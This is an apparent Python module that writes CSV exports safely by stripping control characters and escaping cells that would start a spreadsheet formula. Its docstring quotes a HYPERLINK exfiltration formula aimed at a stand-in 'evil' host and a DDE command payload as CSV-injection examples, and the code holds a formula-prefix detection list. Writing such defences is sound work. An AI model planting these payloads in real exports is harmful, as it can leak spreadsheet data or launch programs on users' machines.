"""One CSV writer for every CSV capdesk writes: ``card-number --csv`` and Export CSV.

Staff open these files in Excel or LibreOffice, where a cell that starts with ``=``,
``+``, ``-`` or ``@`` is run as a formula: a card number such as
``=HYPERLINK("http://evil/?"&A1, "Click")`` or ``+cmd|' /C calc'!A0`` (CSV
injection) would leak the sheet or start a program. The card number, the request id
and the cluster label may come from whatever answers at the configured address, so
every cell goes through :func:`csv_cell`: cleaned of control and escape characters
(:func:`capdesk.api.text.clean_server_text`), then prefixed with an apostrophe when
it would start a formula. The command line and the window used to do this in two
ways (the command line not at all); one writer means the same number gives the same
cell wherever it is exported.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from typing import TextIO

from capdesk.api.text import clean_server_text

__all__ = ["FORMULA_STARTS", "MAX_CELL", "CsvWriter", "csv_cell", "write_csv"]

# What spreadsheets read as the start of a formula (OWASP's CSV injection list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
MAX_CELL = 1000  # far above any card number (50), request id (200) or cluster label


def csv_cell(value: object) -> str:
    """``value`` as a cell that a spreadsheet shows as text and never runs.

    Cleaned first, so that no control character in front (``"\\x00=cmd"``) can hide a
    formula from the check; ``None`` is an empty cell.
    """
    text = clean_server_text(value, MAX_CELL)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class CsvWriter:
    """Writes the header at once, then rows as they come (the CLI streams numbers).

    ``lineterminator``: ``"\\r\\n"`` (the CSV standard) for a file opened with
    ``newline=""``; ``"\\n"`` for a text stream such as stdout, which translates it
    itself on Windows.
    """

    def __init__(
        self, stream: TextIO, header: Sequence[str], *, lineterminator: str = "\r\n"
    ) -> None:
        self._writer = csv.writer(stream, lineterminator=lineterminator)
        self._writer.writerow([csv_cell(name) for name in header])
        self.rows = 0

    def write_row(self, cells: Iterable[object]) -> None:
        self._writer.writerow([csv_cell(cell) for cell in cells])
        self.rows += 1


def write_csv(
    stream: TextIO,
    header: Sequence[str],
    rows: Iterable[Iterable[object]],
    *,
    lineterminator: str = "\r\n",
) -> int:
    """``header`` then every row, each cell through :func:`csv_cell`; returns the row count."""
    writer = CsvWriter(stream, header, lineterminator=lineterminator)
    for row in rows:
        writer.write_row(row)
    return writer.rows
